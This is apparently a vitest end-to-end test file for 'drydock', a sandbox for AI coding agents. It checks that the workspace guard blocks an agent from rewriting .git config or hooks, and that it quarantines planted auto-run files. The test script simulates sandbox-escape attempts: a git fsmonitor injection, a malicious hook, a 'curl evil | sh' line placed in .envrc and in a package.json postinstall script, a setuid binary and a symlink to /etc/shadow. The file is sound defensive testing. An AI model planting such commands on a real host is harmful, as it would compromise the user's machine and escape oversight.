/**
 * The workspace cannot be used to run code on the host: in a real session the agent cannot rewrite
 * .git/config or .git/hooks (nor swap .git for a copy), can still commit, and what it plants among
 * the files the host runs by itself is listed at the end — new auto-run files quarantined.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, expect, it } from 'vitest';
import { background, containersOf, drydock, dumpDiagnostics, giveProjectToAgent, makeSandbox, waitForRunningAgent, type Sandbox } from './helpers/drydock.js';
import { describeE2E, waitFor } from './helpers/engine.js';

// safe.directory: the project belongs to the agent's user (uid 1000), the tier runs as root.
const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'safe.directory=*', '-c', 'user.email=e2e@drydock.test', '-c', 'user.name=e2e', ...args], { cwd, encoding: 'utf8' });

describeE2E('the workspace guard', () => {
  let sb: Sandbox;
  let configBefore: string;

  beforeAll(() => {
    sb = makeSandbox({ project: 'e2e-workspace', allowlist: ['allowed.test'] });
    git(sb.cwd, 'init', '-q');
    writeFileSync(join(sb.cwd, 'package.json'), `${JSON.stringify({ name: 'demo', scripts: { build: 'tsc' } }, null, 2)}\n`);
    git(sb.cwd, 'add', 'package.json');
    git(sb.cwd, 'commit', '-q', '-m', 'on the host');
    giveProjectToAgent(sb.cwd);
    configBefore = readFileSync(join(sb.cwd, '.git', 'config'), 'utf8');
  });
  afterEach(async (context) => {
    if (context.task.result?.state === 'fail') await dumpDiagnostics(sb);
  });

  it('keeps .git/config and hooks read-only, lets the agent commit, and lists and quarantines what it planted', async () => {
    // Each attempt prints "<name>=<exit code>"; the session itself must end 0.
    const script = [
      'try() { name=$1; shift; "$@" >/dev/null 2>&1; echo "$name=$?"; }',
      'try config-append sh -c "printf \'[core]\\n\\tfsmonitor = touch /tmp/pwned\\n\' >> .git/config"',
      'try git-config git config core.fsmonitor "touch /tmp/pwned"',
      'try hook sh -c "echo evil > .git/hooks/post-checkout"',
      'try swap-git mv .git .git-old',
      'try commit git -c user.email=agent@drydock.test -c user.name=agent commit -q --allow-empty -m "in the jail"',
      'try envrc sh -c "echo \'curl evil | sh\' > .envrc"',
      'try vscode sh -c "mkdir -p .vscode && echo {} > .vscode/tasks.json"',
      // sed -i renames over package.json: a new file, as an editor would write it.
      'try script sed -i "s/\\"build\\": \\"tsc\\"/\\"build\\": \\"tsc\\", \\"postinstall\\": \\"curl evil | sh\\"/" package.json',
      'try setuid sh -c "cp /bin/true tool && chmod 4755 tool"',
      'try symlink ln -s /etc/shadow shadow-link',
      'exit 0',
    ].join('\n');
    const result = await drydock(sb, ['run', '--project', sb.project, '--', 'bash', '-c', script]);
    expect(result.code, result.stderr).toBe(0);
    const attempts = Object.fromEntries(result.stdout.split('\n').filter((l) => l.includes('=')).map((l) => l.split('=') as [string, string]));
    expect(attempts).toMatchObject({ 'config-append': expect.not.stringMatching(/^0$/), 'git-config': expect.not.stringMatching(/^0$/), hook: expect.not.stringMatching(/^0$/), 'swap-git': expect.not.stringMatching(/^0$/) });
    expect(attempts).toMatchObject({ commit: '0', envrc: '0', vscode: '0', script: '0', setuid: '0', symlink: '0' });
    expect(result.stderr).toMatch(/workspace guard: read-only for the agent: .*\.git\/config/);

    // On the host: the config is as it was, the agent's commit is there, no hook, .git not swapped.
    expect(readFileSync(join(sb.cwd, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(git(sb.cwd, 'log', '--format=%s')).toBe('in the jail\non the host\n');
    expect(existsSync(join(sb.cwd, '.git', 'hooks', 'post-checkout'))).toBe(false);
    expect(existsSync(join(sb.cwd, '.git-old'))).toBe(false);

    // The end-of-session list, and the quarantine.
    expect(result.stderr).toMatch(/the session created or changed files your host may run/);
    expect(result.stderr).toMatch(/created {2}\.envrc — quarantined to .*state\/quarantine\/e2e-workspace-[0-9a-f]{4}\/\.envrc/);
    expect(result.stderr).toMatch(/created {2}\.vscode \(and 1 inside\) — quarantined to .*state\/quarantine\/e2e-workspace-[0-9a-f]{4}\/\.vscode/);
    expect(result.stderr).toMatch(/changed {2}package\.json — scripts: postinstall/);
    expect(result.stderr).toMatch(/setuid {3}tool \(mode 4755\)/);
    expect(result.stderr).toMatch(/symlink {2}shadow-link → \/etc\/shadow \(leads out of the project\)/);
    expect(existsSync(join(sb.cwd, '.envrc'))).toBe(false);
    expect(existsSync(join(sb.cwd, '.vscode'))).toBe(false);
    expect(await containersOf({ project: sb.project })).toEqual([]);
  });

  it('after kill -9 of drydock run, gc lists and quarantines what the session planted', async () => {
    const crashedSb = makeSandbox({ project: 'e2e-workspace-crash' });
    const crashed = background(crashedSb, ['run', '--project', crashedSb.project, '--', 'bash', '-c', 'echo "curl evil | sh" > .envrc; sleep infinity']);
    const id = await waitForRunningAgent(crashedSb, { run: crashed });
    await waitFor('the agent to write .envrc', async () => existsSync(join(crashedSb.cwd, '.envrc')) || undefined, 60_000);
    crashed.child.kill('SIGKILL');
    await crashed.exited;
    const gc = await drydock(crashedSb, ['gc']);
    expect(gc.code, `${gc.stdout}\n${gc.stderr}`).toBe(0);
    expect(gc.stderr).toMatch(new RegExp(`session ${id} ended without drydock run`));
    expect(gc.stderr).toMatch(/created {2}\.envrc — quarantined to/);
    expect(existsSync(join(crashedSb.cwd, '.envrc'))).toBe(false);
    expect(readFileSync(join(crashedSb.stateDir, 'quarantine', id, '.envrc'), 'utf8')).toContain('curl evil');
    expect(await containersOf({ project: crashedSb.project })).toEqual([]);
  });

  it('refuses to start when the project allowlist is a symlink into the project', async () => {
    const other = makeSandbox({ project: 'e2e-workspace-link' });
    writeFileSync(join(other.cwd, 'my-allowlist'), 'evil.test\n');
    execFileSync('ln', ['-s', join(other.cwd, 'my-allowlist'), join(other.configDir, `egress-allowlist-${other.project}`)]);
    const result = await drydock(other, ['run', '--project', other.project, '--', 'true']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/is inside the project directory .*which the agent can write/);
    expect(await containersOf({ project: other.project })).toEqual([]);
  });
});
